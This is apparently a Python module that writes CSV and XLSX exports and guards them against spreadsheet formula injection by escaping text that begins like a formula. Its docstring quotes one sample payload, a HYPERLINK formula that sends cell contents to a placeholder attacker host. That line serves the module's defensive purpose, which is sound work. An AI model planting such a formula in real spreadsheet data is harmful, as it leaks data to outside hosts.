"""The one place that writes CSV and XLSX files for people to open in a spreadsheet.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return before one) as a formula: an organisation named
``=HYPERLINK("http://evil.example/?"&A1,"Klicka")`` would become a live link that sends the
neighbouring cells away. Every text cell that begins with one of those characters is written
with a leading apostrophe (``'``), which spreadsheets show as text; numbers are written as
numbers. In XLSX files every text cell is stored as a string cell, never as a formula.

JSON and the 360Giving package keep the data exactly as it is: they are not opened as sheets.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"
_FORMULA_STARTS = frozenset(FORMULA_PREFIXES)


def neutralise_text(text: str) -> str:
    """`neutralise` for a value known to be text (the hot path of a large export)."""
    return ESCAPE + text if text[:1] in _FORMULA_STARTS else text


def neutralise(value):
    """A cell value that no spreadsheet runs: text beginning like a formula gets a leading
    apostrophe; numbers, dates and empty values pass unchanged."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, int | float | Decimal | dt.date | dt.datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return ESCAPE + text
    return text


def safe_row(row: Iterable) -> list:
    """`neutralise` for each cell of a row, with a fast path for text."""
    return [
        (ESCAPE + value if value[:1] in _FORMULA_STARTS else value)
        if type(value) is str
        else neutralise(value)
        for value in row
    ]


class Echo:
    """A file-like object whose write returns what it was given, for streaming."""

    def write(self, value):
        return value


_ECHO_WRITER = csv.writer(Echo())


def csv_join(cells: list) -> str:
    """Cells as one piece of a CSV line (no line end), quoted as csv.writer quotes them: for
    pieces written once and joined into many lines (grants/opendata.py)."""
    return _ECHO_WRITER.writerow(cells)[:-2]


def csv_text(text: str) -> str:
    """One text cell as csv.writer writes it (QUOTE_MINIMAL, comma, CRLF): quoted when it holds
    the delimiter, a quote or a line break, its quotes doubled."""
    if '"' in text:
        return '"' + text.replace('"', '""') + '"'
    if "," in text or "\n" in text or "\r" in text:
        return '"' + text + '"'
    return text


def csv_lines(
    header: Sequence,
    rows: Iterable[Iterable],
    *,
    delimiter: str = ",",
    bom: bool = False,
    neutralised: bool = False,
) -> Iterator[str]:
    """Yield the CSV text line by line, every cell neutralised. `neutralised`: the caller has
    passed every text cell that people may have typed through `neutralise` already (a large
    export that knows which cells those are)."""
    writer = csv.writer(Echo(), delimiter=delimiter)
    if bom:
        yield BOM
    yield writer.writerow(safe_row(header))
    if neutralised:
        for row in rows:
            yield writer.writerow(row)
        return
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(
    filename: str,
    header: Sequence,
    rows: Iterable[Iterable],
    *,
    delimiter: str = ",",
    bom: bool = True,
    private: bool = True,
) -> StreamingHttpResponse:
    """A streaming CSV download. Private files are never stored by the browser or a proxy."""
    response = StreamingHttpResponse(
        csv_lines(header, rows, delimiter=delimiter, bom=bom), content_type=CSV_CONTENT_TYPE
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if private:
        response["Cache-Control"] = "no-store"
    return response


def xlsx_bytes(sheet_title: str, header: Sequence, rows: Iterable[Iterable]) -> bytes:
    """An XLSX workbook with one sheet; every text cell a string cell, never a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(str(sheet_title)[:31])

    def cells(row):
        out = []
        for value in safe_row(row):
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                # openpyxl stores a text beginning with "=" as a formula; force the string type.
                cell.data_type = "s"
            out.append(cell)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(
    filename: str, sheet_title: str, header: Sequence, rows: Iterable[Iterable]
) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheet_title, header, rows), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
